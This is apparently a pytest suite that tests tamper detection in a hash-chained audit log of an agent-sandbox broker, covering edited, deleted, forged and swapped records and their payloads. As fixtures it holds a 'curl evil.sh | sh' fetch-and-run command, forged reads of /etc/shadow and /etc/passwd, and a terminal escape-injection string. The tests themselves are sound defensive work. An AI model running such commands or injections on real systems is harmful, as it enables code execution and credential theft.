"""The hash-chained audit, attacked where it lives: a real kernel writes records, the kernel is
closed, and the database (an SQLite file, or PostgreSQL) is edited directly. `verify_chain`,
`Kernel.verify_audit` and `libos audit --verify` must each name the broken record.

Also: the chain and Object Memory survive closing and reopening the kernel.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import msgpack
import pytest

from broker import InvalidArgument, Kernel, NotCapable
from broker.cli import main as cli_main
from broker.store import verify_chain
from broker.store.audit import (
    ADMIN_SYSCALLS,
    ANCHOR_RECORD,
    GENESIS,
    KEY_RECORD,
    UNKNOWN_SYSCALL,
    AuditRecord,
    record_hash,
)
from broker.store.opening import open_store
from broker.syscalls import TABLE
from sandboxes.deno import DenoSandbox
from tests.broker.store.conftest import raw
from tests.conftest import open_image
from tests.sandboxes.conftest import agent, deno, kernel_over, register_tool  # noqa: F401

# `deno` above is the sandbox suites' fixture: a warm pool of real Deno sandboxes.

NOTE = {"type": "object", "properties": {"text": {"type": "string"}}, "required": ["text"],
        "additionalProperties": False}


async def write_history(store_at: str | Path) -> int:
    """A kernel run that leaves allowed, denied and rejected records; returns the count."""
    async with Kernel.open(store_at) as kernel:
        await open_image(kernel, types={"note": NOTE})
        pid = kernel.spawn("agent", caps=["fs:/data/**:read,write"])
        await kernel.call_tool(pid, "make_dir", {"path": "/data"})
        await kernel.call_tool(pid, "write_file", {"path": "/data/a.txt", "data": "hello"})
        assert await kernel.call_tool(pid, "read_file", {"path": "/data/a.txt"}) == "hello"
        with pytest.raises(NotCapable):
            await kernel.call_tool(pid, "read_file", {"path": "/etc/passwd"})
        await kernel.call_tool(pid, "put_object", {"name": "n", "type": "note",
                                                   "value": {"text": "hi"}})
        count, problems = kernel.verify_audit()
        assert problems == []
        return count


@pytest.fixture
async def history(store_at: str | Path) -> int:
    count = await write_history(store_at)
    assert count >= 12
    return count


def row(db: Any, seq: int) -> dict[str, Any]:
    cur = db.execute("SELECT * FROM audit WHERE seq=?", (seq,))
    names = [d[0] for d in cur.description]
    return dict(zip(names, cur.fetchone(), strict=True))


def problems_of(store_at: str | Path) -> list[str]:
    store = open_store(store_at, writer=False)
    try:
        _, problems = verify_chain(store.audit_records())
    finally:
        store.close()
    return [str(p) for p in problems]


async def kernel_problems(store_at: str | Path) -> list[str]:
    async with Kernel.open(store_at) as kernel:
        _, problems = kernel.verify_audit()
    return problems


def cli_verify(store_at: str | Path, capsys: pytest.CaptureFixture[str],
               *extra: str) -> tuple[int, str]:
    code = cli_main(["audit", "--verify", "--db", str(store_at), *extra])
    out = capsys.readouterr()
    return code, out.out + out.err


def first_seq(problems: list[str]) -> int:
    assert problems, "tampering went unnoticed"
    return int(problems[0].split()[1].rstrip(":"))


async def assert_reported(store_at: str | Path, capsys: pytest.CaptureFixture[str], seq: int,
                          what: str) -> None:
    """Every verifier names `seq` first, saying `what`; the CLI exits non-zero."""
    for problems in (problems_of(store_at), await kernel_problems(store_at)):
        assert first_seq(problems) == seq, problems
        assert what in problems[0], problems
    code, text = cli_verify(store_at, capsys)
    assert code == 1
    assert f"record {seq}" in text
    code, text = cli_verify(store_at, capsys, "--json")
    assert code == 1
    report = json.loads(text)
    assert report["ok"] is False and report["problems"][0].startswith(f"record {seq}:")


# -- an untampered chain ------------------------------------------------------------------------


async def test_untampered_chain_verifies(store_at: str | Path, history: int,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    assert problems_of(store_at) == []
    assert await kernel_problems(store_at) == []
    code, _ = cli_verify(store_at, capsys)
    assert code == 0
    code, text = cli_verify(store_at, capsys, "--json")
    assert code == 0
    assert json.loads(text) == {"records": history, "ok": True, "problems": []}
    with raw(store_at) as db:
        seqs = [r[0] for r in db.execute("SELECT seq FROM audit ORDER BY seq")]
        links = db.execute("SELECT prev_hash, hash FROM audit ORDER BY seq").fetchall()
    assert seqs == list(range(1, history + 1))
    assert links[0][0] == GENESIS
    assert all(prev == before for (prev, _), (_, before) in zip(links[1:], links, strict=False))


# -- tampering -------------------------------------------------------------------------------------


async def test_edited_detail_is_reported_at_its_seq(store_at: str | Path, history: int,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    with raw(store_at) as db:
        denied = db.execute("SELECT seq, detail FROM audit WHERE phase='denied'").fetchone()
        seq, detail = denied[0], json.loads(denied[1])
        detail["error"] = "NONE"  # hide the denial
        db.execute("UPDATE audit SET detail=? WHERE seq=?", (json.dumps(detail), seq))
    await assert_reported(store_at, capsys, seq, "edited")
    assert len(problems_of(store_at)) == 1  # the links around it still hold


@pytest.mark.parametrize(("column", "value"), [
    ("phase", "admin"), ("resource", "/data/other.txt"), ("pid", 99), ("ts", 0.0),
    ("syscall", "fs.stat"), ("cap_id", "cap_forged"), ("hash", "f" * 64),
])
async def test_any_edited_column_is_reported(store_at: str | Path, history: int, column: str,
                                             value: Any) -> None:
    with raw(store_at) as db:
        db.execute(f"UPDATE audit SET {column}=? WHERE seq=5", (value,))
    problems = problems_of(store_at)
    assert first_seq(problems) == 5 and "edited" in problems[0]


async def test_deleted_middle_record_is_reported(store_at: str | Path, history: int,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    with raw(store_at) as db:
        db.execute("DELETE FROM audit WHERE seq=6")
    await assert_reported(store_at, capsys, 7, "sequence jumps from 5")
    assert any("record 7: does not link" in p for p in problems_of(store_at))


async def test_deleted_first_record_is_reported(store_at: str | Path, history: int) -> None:
    with raw(store_at) as db:
        db.execute("DELETE FROM audit WHERE seq=1")
    problems = problems_of(store_at)
    assert first_seq(problems) == 2 and "sequence jumps from 0" in problems[0]


async def test_forged_record_is_reported(store_at: str | Path, history: int,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    """A forged record slipped into the middle (the records after it renumbered)."""
    with raw(store_at) as db:
        db.execute("UPDATE audit SET seq = -seq WHERE seq >= 5")
        db.execute("UPDATE audit SET seq = 1 - seq WHERE seq < 0")
        before = row(db, 4)
        db.execute(
            "INSERT INTO audit(seq, ts, pid, inv, tool, phase, syscall, resource, args_hash,"
            " cap_id, detail, prev_hash, hash) VALUES (5, ?, 1, NULL, NULL, 'outcome',"
            " 'fs.read', '/etc/shadow', NULL, NULL, '{\"ok\":true}', ?, ?)",
            (before["ts"], before["hash"], "0" * 64))
    await assert_reported(store_at, capsys, 5, "edited")


async def test_forged_record_with_a_valid_hash_is_reported(
        store_at: str | Path, history: int, capsys: pytest.CaptureFixture[str]) -> None:
    """The forger knows the hash function and links the forged record to the one before it;
    the record after it no longer links (or matches its own renumbered hash)."""
    with raw(store_at) as db:
        db.execute("UPDATE audit SET seq = -seq WHERE seq >= 5")
        db.execute("UPDATE audit SET seq = 1 - seq WHERE seq < 0")
        before = row(db, 4)
        forged = AuditRecord(phase="outcome", syscall="fs.read", pid=1,
                             resource="/etc/shadow", detail={"ok": True})
        detail = json.dumps(forged.detail, separators=(",", ":"))
        digest = record_hash(5, before["ts"], forged, detail, before["hash"])
        db.execute(
            "INSERT INTO audit(seq, ts, pid, inv, tool, phase, syscall, resource, args_hash,"
            " cap_id, detail, prev_hash, hash) VALUES (5,?,?,?,?,?,?,?,?,?,?,?,?)",
            (before["ts"], forged.pid, None, None, forged.phase, forged.syscall,
             forged.resource, None, None, detail, before["hash"], digest))
    problems = problems_of(store_at)
    assert not any(p.startswith("record 5:") for p in problems)  # self-consistent ...
    await assert_reported(store_at, capsys, 6, "")                 # ... but 6 breaks
    assert any(p.startswith("record 6: does not link") for p in problems)


async def test_swapped_records_are_reported(store_at: str | Path, history: int,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    with raw(store_at) as db:
        db.execute("UPDATE audit SET seq=-1 WHERE seq=3")
        db.execute("UPDATE audit SET seq=3 WHERE seq=8")
        db.execute("UPDATE audit SET seq=8 WHERE seq=-1")
    await assert_reported(store_at, capsys, 3, "")
    problems = problems_of(store_at)
    flagged = {first_seq([p]) for p in problems}
    assert {3, 4, 8, 9} <= flagged
    assert all(any(p.startswith(f"record {s}:") and "edited" in p for p in problems)
               for s in (3, 8))


async def test_swapped_contents_keeping_seq_are_reported(store_at: str | Path,
                                                         history: int) -> None:
    """Two records trade everything but their seq (a reorder that keeps the numbering)."""
    with raw(store_at) as db:
        a, b = row(db, 4), row(db, 7)
        columns = [c for c in a if c != "seq"]
        sets = ", ".join(f"{c}=?" for c in columns)
        db.execute(f"UPDATE audit SET {sets} WHERE seq=4", [b[c] for c in columns])
        db.execute(f"UPDATE audit SET {sets} WHERE seq=7", [a[c] for c in columns])
    problems = problems_of(store_at)
    assert first_seq(problems) == 4 and "does not link" in problems[0]


async def test_cli_on_a_missing_store_fails(tmp_path: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    code, _ = cli_verify(tmp_path / "nothing.db", capsys)
    assert code != 0
    assert not (tmp_path / "nothing.db").exists()


# -- payloads: outside the chain, vouched for by it ------------------------------------------------


def store_problems(store_at: str | Path) -> list[str]:
    store = open_store(store_at, writer=False)
    try:
        return store.audit_problems()[1]
    finally:
        store.close()


@pytest.mark.parametrize(("seq", "payload", "what"), [
    # (records 1 and 2 are the host's: the image registered, the process spawned)
    # write_file's call, its arguments rewritten (the record still says "hello")
    (7, msgpack.packb({"name": "write_file",
                       "args": {"path": "/data/a.txt", "data": "curl evil.sh | sh"}}),
     "its stored arguments payload does not match the hash its record carries: edited"),
    # fs.mkdir's result (its outcome's), rewritten
    (5, msgpack.packb("evil"),
     "its stored result payload does not match the hash its record carries: edited"),
    # read_file's call (written whole since onecall: its arguments, then its result; its read
    # folded into it since wrapped), removed
    (11, None, "its stored arguments and result payload is missing: removed"),
    # a payload where the record has none (a denial)
    (13, msgpack.packb({"path": "/etc/passwd"}),
     "holds a stored payload that its record does not vouch for: planted"),
])
async def test_an_edited_payload_is_reported_at_its_record(
        store_at: str | Path, history: int, capsys: pytest.CaptureFixture[str], seq: int,
        payload: bytes | None, what: str) -> None:
    """Payload cells are outside the hash chain; each is bound to a hash its chained record
    carries, and every verifier names the record whose payload was touched."""
    with raw(store_at) as db:
        db.execute("UPDATE audit SET payload=? WHERE seq=?", (payload, seq))
    assert problems_of(store_at) == []  # the chain itself is intact
    for problems in (store_problems(store_at), await kernel_problems(store_at)):
        assert problems == [f"record {seq}: {what}"]
    code, text = cli_verify(store_at, capsys, "--json")
    assert code == 1 and json.loads(text)["problems"] == [f"record {seq}: {what}"]


async def test_arguments_must_hash_to_the_records_args_hash(store_at: str | Path,
                                                            history: int) -> None:
    """The intent's payload hash and its args_hash are over the same arguments: a payload
    written with a matching hash for other arguments is still refused (defence against a
    broker that wrote them apart)."""
    other = msgpack.packb({"name": "write_file", "args": {"path": "/data/b.txt", "data": "x"}})
    store = open_store(store_at)
    try:
        seq = store.append_audit(AuditRecord(
            phase="intent", syscall="tool.call", pid=1, args_hash="0" * 64,
            detail={"payload_hash": hashlib.sha256(other).hexdigest()}), payload=other)
        assert store.audit_problems()[1] == [
            f"record {seq}: its stored arguments payload does not match its args_hash: edited"]
    finally:
        store.close()


# -- surviving a reopen ---------------------------------------------------------------------------


async def test_chain_continues_across_reopen(store_at: str | Path, history: int) -> None:
    with raw(store_at) as db:
        last_hash = row(db, history)["hash"]
    async with Kernel.open(store_at) as kernel:
        records = [r.to_json() for r in kernel.store.audit_records()]
        assert len(records) == history  # everything acknowledged is still there
        pid = kernel.spawn("agent", caps=["fs:/data/**:read"])
        assert await kernel.call_tool(pid, "read_file", {"path": "/data/a.txt"}) == "hello"
        records = [r.to_json() for r in kernel.store.audit_records()]  # (not as listed)
        count, problems = kernel.verify_audit()
    assert problems == [] and count == len(records) > history
    assert [r["seq"] for r in records] == list(range(1, count + 1))
    with raw(store_at) as db:
        assert row(db, history + 1)["prev_hash"] == last_hash
    # and a second reopen still verifies the whole thing
    assert await kernel_problems(store_at) == []


async def test_tampering_before_reopen_is_still_reported_after(store_at: str | Path,
                                                               history: int) -> None:
    """Writing more records after a tampered one does not launder it."""
    with raw(store_at) as db:
        db.execute("UPDATE audit SET resource='/nowhere' WHERE seq=2")
    async with Kernel.open(store_at) as kernel:
        pid = kernel.spawn("agent", caps=["fs:/data/**:read"])
        await kernel.call_tool(pid, "read_file", {"path": "/data/a.txt"})
        _, problems = kernel.verify_audit()
    assert first_seq(problems) == 2
    # The edited record created process 1: its rows are vouched for by no intact record now,
    # so they are named too (and it holds nothing); nothing else is.
    assert all("process 1's capabilit" in p for p in problems[1:]), problems


async def test_objects_and_versions_survive_reopen(store_at: str | Path) -> None:
    values = [{"text": f"v{i}"} for i in range(1, 4)]
    async with Kernel.open(store_at) as kernel:
        await open_image(kernel, types={"note": NOTE})
        writer = kernel.spawn("agent")
        for value in values:
            await kernel.call_tool(writer, "put_object",
                                   {"name": "diary", "type": "note", "value": value})
        await kernel.call_tool(writer, "put_object",
                               {"name": "blob", "type": "json", "value": [1, {"a": None}]})
    ns = f"proc/{writer}"
    async with Kernel.open(store_at) as kernel:
        for version, value in enumerate(values, start=1):
            stored = kernel.store.get_object(ns, "diary", version)
            assert (stored["version"], stored["type"], stored["payload"]) == \
                (version, "note", value)
        assert kernel.store.get_object(ns, "diary")["version"] == 3
        assert kernel.store.get_object(ns, "blob")["payload"] == [1, {"a": None}]
        # a new process reads them through the tool, with a capability naming the namespace
        reader = kernel.spawn("agent", caps=[f"obj:{ns}:read"])
        got = await kernel.call_tool(reader, "get_object",
                                     {"ns": ns, "name": "diary", "version": 2})
        assert got == {"ns": ns, "name": "diary", "version": 2, "type": "note",
                       "value": values[1]}
        latest = await kernel.call_tool(reader, "get_object", {"ns": ns, "name": "diary"})
        assert latest["version"] == 3 and latest["value"] == values[2]
        listed = await kernel.call_tool(reader, "list_objects", {"ns": ns})
        assert {(o["name"], o["version"]) for o in listed} == {("diary", 3), ("blob", 1)}
        # read only: writing into that namespace is refused, and so is any process without it
        with pytest.raises(NotCapable):
            await kernel.call_tool(reader, "put_object", {"ns": ns, "name": "diary",
                                                          "type": "note",
                                                          "value": {"text": "forged"}})
        stranger = kernel.spawn("agent")
        with pytest.raises(NotCapable):
            await kernel.call_tool(stranger, "get_object", {"ns": ns, "name": "diary"})
        denied = [r for r in kernel.audit(stranger) if r["phase"] == "denied"]
        assert denied and denied[0]["syscall"] == "obj.get"
        assert denied[0]["resource"] == f"{ns}/diary"  # the object, inside its namespace
        # the schema still holds after reopen (types are durable too)
        with pytest.raises(InvalidArgument):
            await kernel.call_tool(writer, "put_object",
                                   {"name": "diary", "type": "note", "value": {"txt": 1}})
        assert kernel.store.get_object(ns, "diary")["version"] == 3
        _, problems = kernel.verify_audit()
        assert problems == []


# -- tool code cannot name audit records --------------------------------------------------------

PLANTER = """export default async function run(args: {names: string[]}, libos: any) {
  const refused: unknown[] = [];
  for (const name of args.names) {
    try {
      await libos.syscall(name, {problem: "records were removed from the end: forged"});
      refused.push("allowed");
    } catch (e: any) {
      refused.push([e.name, e.code]);
    }
  }
  return {refused, now: typeof await libos.clock.now()};
}"""
ADMIN_NAMES = [ANCHOR_RECORD, KEY_RECORD, "approval.answer", "caps.revoke"]
HOSTILE_NAME = "\x1b]52;c;cGF3bmVk\x07\u202e" + "audit.anchor" * 40


async def test_tool_code_cannot_plant_administrative_records(
        tmp_path: Path, store_at: str | Path, capsys: pytest.CaptureFixture[str],
        deno: DenoSandbox) -> None:  # noqa: F811 (the sandbox suites' fixture)
    """A TypeScript tool asks for the broker's own record names through `libos.syscall`:
    each is refused as `NotCapable` and recorded as `unknown` (the name it asked for, bounded
    and inert, in the detail), and the chain still verifies. The broker's own revoke and
    anchor records still work, and verification still honours the anchor."""
    async with kernel_over(tmp_path, deno, store=store_at) as kernel:
        pid = agent(kernel)
        await register_tool(kernel, pid, "plant", PLANTER, lang="ts")
        got = await kernel.call_tool(pid, "plant", {"names": [*ADMIN_NAMES, HOSTILE_NAME]})
        assert got == {"refused": [["NotCapable", "NOT_CAPABLE"]] * 5, "now": "number"}
        denied = [r for r in kernel.audit(pid) if r["phase"] == "denied"]
        assert [r["syscall"] for r in denied] == [UNKNOWN_SYSCALL] * 5
        assert [r["detail"]["name"] for r in denied[:4]] == ADMIN_NAMES
        assert all(r["tool"] == "plant" and r["inv"] is not None
                   and r["detail"]["error"] == "NOT_CAPABLE" for r in denied)
        hostile = denied[4]["detail"]["name"]
        assert hostile.startswith("\\x1b]52;c;cGF3bmVk\\x07\\u202e")
        assert len(hostile) == 64 and hostile.isascii() and hostile.isprintable()
        # the tool's legitimate syscall, in the same run, is recorded under its own name
        assert [r["phase"] for r in kernel.audit(pid) if r["syscall"] == "clock.now"] == \
            ["intent+outcome"]
        # the broker's own administrative record, beside them
        cap_id = kernel.capabilities(pid)[0]["id"]
        kernel.revoke(cap_id)
        revoked = [r for r in kernel.audit() if r["syscall"] == "caps.revoke"]
        assert len(revoked) == 1 and revoked[0]["phase"] == "admin"
        assert revoked[0]["pid"] is None and revoked[0]["resource"] == cap_id
        assert kernel.verify_audit()[1] == []
        named = {r["syscall"] for r in kernel.audit()}
        assert named <= set(TABLE) | ADMIN_SYSCALLS | {UNKNOWN_SYSCALL}
        assert not any(r["syscall"] in ADMIN_NAMES and r["pid"] == pid for r in kernel.audit())
        last = kernel.store.head_seq
    assert cli_verify(store_at, capsys)[0] == 0
    # The broker's own anchor record is still honoured: records cut off the end are found
    # by the next broker to open the store, and reported from then on.
    with raw(store_at) as db:
        db.execute("DELETE FROM audit WHERE seq > ?", (last - 2,))
    problems = await kernel_problems(store_at)
    assert any(p.startswith(f"record {last - 1}: a broker opening the store found: record "
                            f"{last - 1}: missing") for p in problems), problems
    assert cli_verify(store_at, capsys)[0] == 1


def test_no_syscall_can_carry_an_administrative_name() -> None:
    """The names a record may hold are three disjoint sets: the table's, the broker's own,
    and `unknown`. A syscall added under an administrative name would let tools write it."""
    assert not set(TABLE) & ADMIN_SYSCALLS
    assert UNKNOWN_SYSCALL not in TABLE and UNKNOWN_SYSCALL not in ADMIN_SYSCALLS


@pytest.mark.parametrize(("phase", "pid"), [("denied", 1), ("admin", 1), ("intent", None)])
async def test_only_the_brokers_own_anchor_records_are_honoured(
        store_at: str | Path, history: int, phase: str, pid: int | None) -> None:
    """An `audit.anchor` record in any other shape than the broker's (a process's, as an
    older broker recorded an unknown name verbatim) is not taken as a finding."""
    store = open_store(store_at)
    try:
        store.append_audit(AuditRecord(phase=phase, syscall=ANCHOR_RECORD, pid=pid,
                                       detail={"problem": "forged"}))
        assert store.audit_problems()[1] == []
    finally:
        store.close()
